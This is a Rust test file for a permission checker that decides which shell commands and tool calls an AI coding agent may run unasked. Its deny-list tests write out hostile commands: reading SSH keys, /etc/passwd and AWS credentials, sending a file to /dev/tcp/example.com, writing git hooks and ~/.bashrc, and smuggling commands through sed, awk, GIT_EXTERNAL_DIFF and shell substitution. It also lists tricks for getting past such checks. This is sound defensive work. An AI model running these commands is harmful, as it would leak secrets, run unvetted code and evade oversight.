//! Which lines need no question, and which do.

use midrail_core::Event;
use serde_json::json;

use super::*;
use crate::shared::data::PROGRAMS;
use crate::shared::settings::patterns;
use crate::tests::Run;

fn vouch() -> Vouch {
    let all = OneOrMany(patterns(&["**"]));
    let commands = OneOrMany(vec![VouchedCommand::Words("frob check".to_owned())]);
    Vouch { reads: all.clone(), edits: all, commands, builds: true, ..Vouch::default() }
}

fn in_repository() -> Run {
    let mut run = Run::of(vouch()).with_git("main", "c1").with_file("src/a.rs", "fn main() {}");
    if let Some(git) = &mut run.git {
        git.top = ".".to_owned();
    }
    run
}

fn vouched(command: &str) -> bool {
    in_repository().before("Bash", json!({"command": command})).vouched
}

/// A file that a command reads is judged only if the analysis of command lines finds it, or its path is absolute.
#[test]
fn files_of_every_reading_command_are_known() {
    for list in ["reading commands", "commands that read their folder", "creating commands"] {
        for row in PROGRAMS.list(list) {
            let program = row.split(':').next().unwrap_or(row);
            if program == "tr" {
                continue;
            }
            let pattern = if ["grep", "egrep", "fgrep", "rg"].contains(&program) { "x " } else { "" };
            for file in ["/etc/passwd", "../other/file"] {
                assert!(!vouched(&format!("{program} {pattern}{file}")), "{program} {file}");
            }
            let line = format!("{program} {pattern}secrets/file");
            let action = midrail_shell::action::derive(&Event::before_tool("Bash", json!({"command": line})));
            let files = action.unwrap().target_files.unwrap_or_default();
            assert!(files.iter().any(|file| file == "secrets/file"), "{line}: {files:?}");
        }
    }
}

#[test]
fn everyday_lines_are_vouched_for() {
    for line in [
        "ls -la",
        "cat src/a.rs | head -20",
        "head -n 20 src/a.rs; tail -5 src/a.rs",
        "grep -rn 'fn main' src --include='*.rs' | wc -l",
        "find . -name '*.rs' -not -path './target/*' | sort | uniq -c",
        "rg -n main src",
        "cd src && ls && cat a.rs",
        "sed -n '1,5p' src/a.rs",
        "git log --oneline -5 && git show --stat HEAD",
        "git branch --show-current && git status --porcelain --ignore-submodules",
        "test -f src/a.rs || true",
        "ls src 2>/dev/null | wc -l",
        "mkdir -p src/b && touch src/b/a.rs",
        "frob check --fast",
        "frob check 2>&1 | tail -5",
        "timeout 5 frob check",
        "pwd; echo done",
        "date +%s",
    ] {
        if line.starts_with("test ") {
            // Its operands can be evaluated again.
            assert!(!vouched(line));
            continue;
        }
        assert!(vouched(line), "{line}");
    }
}

#[test]
fn whatever_can_do_more_is_not_vouched_for() {
    for line in [
        "cat ~/.ssh/id_rsa",
        "cat /etc/passwd",
        "cat $FILE",
        "cat ../other/a.rs",
        "ls ~",
        "find / -name '*.pem'",
        "find . -name '*.rs' -exec ./run {} \\;",
        "find . -delete",
        "find . -fprintf out.txt x",
        "fd . -x ./run",
        "rg --pre ./run x",
        "rg x *",
        "sort -o src/a.rs src/a.rs",
        "sort --compress-prog=./run src/a.rs",
        "git log --output=src/a.rs",
        "git -c core.pager=./run log",
        "git -C /tmp/other status",
        "cd src && git status",
        "git diff --ext-diff",
        "git grep -O./run main",
        "git branch new",
        "git branch -D main",
        "git stash",
        "git push",
        "GIT_EXTERNAL_DIFF=./run git diff",
        "PATH=.:$PATH ls",
        "LESSOPEN='|./run %s' cat src/a.rs",
        "IFS=x ls",
        "ls() { ./run; }; ls",
        "alias ls=./run; ls",
        "./ls",
        "./run",
        "bash run.sh",
        "sh -c ls",
        "sh -c \"$X\"",
        "eval ls $X",
        "cat src/a.rs | sh",
        "echo x | tee >(sh)",
        "sudo ls",
        "env ls",
        "xargs cat < src/a.rs",
        "awk 'BEGIN{system(\"make\")}'",
        "awk 'BEGIN{while((getline l < \"/etc/passwd\")>0) print l}'",
        "awk 'BEGIN{print ENVIRON[\"TOKEN\"]}'",
        "awk -f run.awk src/a.rs",
        "jq -n env",
        "jq -n '$ENV'",
        "sed '1e make' src/a.rs",
        "sed -i 's/a/b/' /etc/hosts",
        "sed -n '1r /etc/passwd' src/a.rs",
        "sed 's/a/b/w out' src/a.rs",
        "sed 's/a/make/e' src/a.rs",
        "sed -e p -e 'e make' src/a.rs",
        "sed -ee src/a.rs",
        "sed --expression=e src/a.rs",
        "sed 's/a/b/;e make' src/a.rs",
        "sed 's/a/b/\ne make' src/a.rs",
        "echo x > .git/hooks/pre-commit",
        "echo x > ~/.bashrc",
        "cp src/a.rs .envrc",
        "cp ~/.aws/credentials src/a.rs",
        "mv src/a.rs /tmp/../etc/a",
        "rm src/a.rs",
        "cat src/a.rs > /dev/tcp/example.com/80",
        "curl https://example.com",
        "date -s 2020-01-01",
        "tree -o src/a.rs",
        "frob publish",
        "frob check; ./run",
        "./frob check",
        "cargo test",
        "exec 3<>/dev/tcp/example.com/80",
        "trap ./run EXIT; ls",
        "coproc ./run",
        "file -C -m src/a.rs",
        "git stash push",
        "ls $(cat src/a.rs)",
        "ls `./run`",
        // What an attack found: words that are evaluated again, options of the shell, and variables.
        "case x in $(./run)) ls;; esac",
        "x='a[$(./run)]'; echo ${!x}",
        "n=$(cat src/n); echo $((n+1))",
        "test -v 'a[$(./run)]'",
        "[ -v 'a[$(./run)]' ]",
        "printf -v PATH .; ls",
        "wait -p PATH; ls",
        "set -k; git log GIT_EXTERNAL_DIFF=./run",
        "set",
        "bash -k -c 'ls'",
        "echo $((PATH=5)); ls",
        "PERL5LIB=plib shasum src/a.rs",
        "echo $TOKEN",
        // Options that run, read or write more.
        "sed 1p --e='1e ./run' src/a.rs",
        "sed 1p -ne '1r /root/secret' src/a.rs",
        "cargo --version",
        "git status",
        "git diff",
        "git add src",
        "git rev-list --output=.git/hooks/zz HEAD",
        "git blame --contents=/etc/passwd src/a.rs",
        "git log -L1,5:/etc/passwd",
        "date -f src/a.rs",
        "file -m src/a.rs x",
        "sort --files0-from=src/list",
        "sort -osrc/a.rs src/a.rs",
        "du -Xsrc/list src",
        "grep -R x .",
        "grep -fsrc/list src/a.rs",
        "rg -L x",
        "find -L . -name x",
        "find . -newer /etc/passwd",
        "ls -RL src",
        "uniq src/a.rs src/b.rs",
        "command time -o .envrc ls",
        "env ls",
        // Globs, links and folders.
        "cat out*/secret",
        "cat link/../secret",
        "cd nope; cat src/a.rs",
        "cd src; ls",
        "cd src || ls",
        "cd src && ls; cat a.rs",
        "true && cd src && ls",
        "cd -",
        "cd -P src && ls",
        "cat ~+/../secret",
        "cp -r extracted/. .",
        "cp src/a.rs src/b.rs",
        "mv src/a.rs src/b.rs",
        "git fetch; cat src/a.rs > /dev/tcp/example.com/80",
        "frob check; cat /etc/passwd",
        "frob check -F/etc/passwd",
        "frob check --file=/etc/passwd",
        "frob check --file=../secret",
        "curl https://docs.rs",
        "wget https://docs.rs",
        "touch CLAUDE.md",
        "rm src/a.rs # x",
    ] {
        assert!(!vouched(line), "{line}");
    }
}

#[test]
fn links_lead_to_files_that_are_not_listed() {
    let mut run = Run::of(vouch()).with_link("notes", "/etc/passwd", "root");
    assert!(!run.before("Read", json!({"file_path": "notes"})).vouched);
    assert!(!run.before("Bash", json!({"command": "cat notes"})).vouched);
}

#[test]
fn edits_need_a_repository_and_a_listed_place() {
    let edit = json!({"file_path": "src/a.rs", "old_string": "main", "new_string": "run"});
    assert!(in_repository().before("Edit", edit.clone()).vouched);
    let mut outside = Run::of(vouch()).with_file("src/a.rs", "fn main() {}");
    assert!(!outside.before("Edit", edit).vouched);
    for path in [".git/config", "sub/.envrc", "/etc/hosts", "~/.bashrc", "../a.rs", ".claude/settings.json"] {
        let write = json!({"file_path": path, "content": "x"});
        assert!(!in_repository().before("Write", write).vouched, "{path}");
    }
}

#[test]
fn facts_that_are_missing_withhold_it_and_stop_nothing() {
    let mut run = Run::of(vouch()).without_files();
    let decision = run.before("Read", json!({"file_path": "src/a.rs"}));
    assert_eq!((decision.effect, decision.vouched), (Effect::Allow, false));
}

#[test]
fn listed_commands_widen_no_other_command_of_their_line() {
    let settings = Vouch {
        reads: OneOrMany(patterns(&["docs/**"])),
        commands: OneOrMany(vec![VouchedCommand::Words("git commit".to_owned())]),
        ..Vouch::default()
    };
    let mut run = Run::of(settings).with_git("main", "c1");
    if let Some(git) = &mut run.git {
        git.top = ".".to_owned();
    }
    for (line, is_vouched) in [
        ("git commit -m done", true),
        ("git commit -m done && echo done", true),
        ("git commit -m done; cat docs/a.md", true),
        ("git commit -m done; cat src/a.rs", false),
        ("git commit -m done; touch docs/a.md", false),
        ("cd sub && git commit -m done", false),
        ("git commit -F /etc/passwd", false),
        ("git commit && ./run", false),
    ] {
        assert_eq!(run.before("Bash", json!({"command": line})).vouched, is_vouched, "{line}");
    }
}

#[test]
fn tools_are_known_by_their_exact_names_and_arguments() {
    let settings = Vouch { hosts: OneOrMany(patterns(&["docs.rs"])), ..vouch() };
    let mut run = Run::of(settings).with_git("main", "c1").with_file("src/a.rs", "fn main() {}");
    for (tool, args, is_vouched) in [
        ("Read", json!({"file_path": "src/a.rs"}), true),
        ("mcp__fs__read_file", json!({"path": "src/a.rs"}), false),
        ("fs/read_file", json!({"path": "src/a.rs"}), false),
        ("ReadX", json!({"file_path": "src/a.rs"}), false),
        ("Read", json!({"file_path": "src/../../x"}), false),
        ("Glob", json!({"pattern": "**/*.rs"}), true),
        ("Glob", json!({"pattern": "/etc/**"}), false),
        ("Glob", json!({"pattern": "../**"}), false),
        ("Glob", json!({"pattern": "{/etc,src}/*"}), false),
        ("Bash", json!({"command": "ls", "description": "x", "timeout": 5}), true),
        ("Bash", json!({"command": "ls", "shell": "./run"}), false),
        ("Bash", json!({"command": "ls", "cwd": "/etc"}), false),
        ("Cron", json!({"command": "ls"}), false),
        ("WebFetch", json!({"url": "https://docs.rs/serde?a=b", "prompt": "x"}), true),
        ("WebFetch", json!({"url": "https://evil.com\\@docs.rs"}), false),
        ("WebFetch", json!({"url": "https://a@docs.rs"}), false),
        ("WebFetch", json!({"url": "file://docs.rs/etc/passwd"}), false),
        ("WebFetch", json!({"url": "https://docs.rs", "method": "POST"}), false),
    ] {
        assert_eq!(run.before(tool, args.clone()).vouched, is_vouched, "{tool} {args}");
    }
}
